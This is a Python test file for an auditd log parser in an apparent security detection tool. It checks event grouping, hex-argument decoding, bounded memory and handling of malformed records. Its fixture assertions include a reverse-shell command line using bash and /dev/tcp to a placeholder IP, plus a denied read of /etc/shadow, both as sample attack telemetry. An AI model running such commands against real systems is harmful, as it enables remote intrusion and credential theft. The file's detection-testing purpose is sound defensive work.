"""auditd: records grouped by event id into process events, enriched names, hex arguments."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from cloudwarden.detect.sources import ParseStats, parse_auditd
from cloudwarden.detect.sources.auditd import WINDOW, parse_audit_record


def test_auditd_groups_records_into_process_events(fixtures: Path) -> None:
    stats = ParseStats()
    events = {e.origin.rsplit(":", 1)[1]: e for e in parse_auditd(fixtures / "audit.log", stats)}
    curl = events["1"]
    assert curl.source == "linux.process" and curl.action == "curl"
    assert curl.process == "/usr/bin/curl" and curl.command_line == "curl -s -o /tmp/my file"
    assert curl.actor == "alice" and curl.outcome == "success"
    assert curl.time == datetime(2024, 3, 5, 14, 2, 1, 123000, tzinfo=UTC)
    assert curl.targets == ("/usr/bin/curl", "/lib64/ld-linux-x86-64.so.2")
    assert curl.get("type") == "EXECVE" and curl.get("a0") == "curl" and curl.get("cwd") == "/tmp"
    assert curl.get("key") == "exec" and curl.get("SYSCALL") == "execve"
    assert [r["type"] for r in curl.get("records")] == [
        "SYSCALL", "EXECVE", "CWD", "PATH", "PATH", "PROCTITLE", "EOE",
    ]  # fmt: skip
    assert curl.get("records")[5]["proctitle"] == "curl -s -o"

    # interleaved records of two events on node web-1 still group
    shell = events["10"]
    assert shell.command_line == "bash -i /dev/tcp/203.0.113.5/4444" and shell.host == "web-1"
    assert shell.actor == "1001"
    denied = events["11"]
    assert denied.source == "linux.auditd" and denied.action == "syscall"
    assert denied.outcome == "failure" and denied.targets == ("/etc/shadow",)

    auth = events["8"]
    assert auth.action == "user_auth" and auth.outcome == "failure"
    assert auth.actor == "root" and auth.source_ip == "198.51.100.23"
    assert auth.process == "/usr/sbin/sshd" and auth.get("op") == "PAM:authentication"

    assert (stats.records, stats.events, stats.malformed) == (15, 4, 2)
    assert {p.origin.rsplit(":", 1)[1] for p in stats.examples} == {"9", "14"}


def test_audit_record_hex_arguments_only_where_auditd_writes_them() -> None:
    _, rtype, epoch, serial, rec = parse_audit_record(
        'type=EXECVE msg=audit(1.5:7): argc=2 a0="echo" a1=68656C6C6F20776F726C64'
    )
    assert (rtype, epoch, serial, rec["a1"]) == ("EXECVE", 1.5, "7", "hello world")
    _, _, _, _, sys = parse_audit_record("type=SYSCALL msg=audit(1.5:7): a0=ABCDEF exit=0")
    assert sys["a0"] == "ABCDEF"


def test_auditd_memory_is_bounded_by_the_window(tmp_path: Path) -> None:
    log = tmp_path / "audit.log"
    lines = [
        f"type=USER_LOGIN msg=audit(1700000000.{i:03d}:{i}): pid=1 uid=0 auid=0 msg='res=success'"
        for i in range(200)
    ]
    log.write_text("\n".join(lines) + "\n")
    seen: list[int] = []
    for index, event in enumerate(parse_auditd(log)):
        seen.append(int(event.get("serial")))
        # groups without EOE come out at most WINDOW lines late
        assert index + WINDOW >= seen[-1]
    assert seen == list(range(200))


def test_an_epoch_out_of_range_is_one_malformed_event_not_the_end_of_the_read(
        tmp_path: Path) -> None:
    huge = "9" * 400
    log = tmp_path / "audit.log"
    log.write_text(
        f'type=SYSCALL msg=audit({huge}.000:1): arch=c000003e syscall=59 success=yes exit=0 '
        'pid=1 uid=0 comm="ls" exe="/usr/bin/ls"\n'
        'type=SYSCALL msg=audit(1709647321.123:2): arch=c000003e syscall=59 success=yes '
        'exit=0 pid=2 uid=0 comm="id" exe="/usr/bin/id"\n'
        'type=EXECVE msg=audit(1709647321.123:2): argc=1 a0="id"\n')
    stats = ParseStats()
    events = list(parse_auditd(log, stats))
    assert [e.action for e in events] == ["id"]
    assert stats.malformed == 1
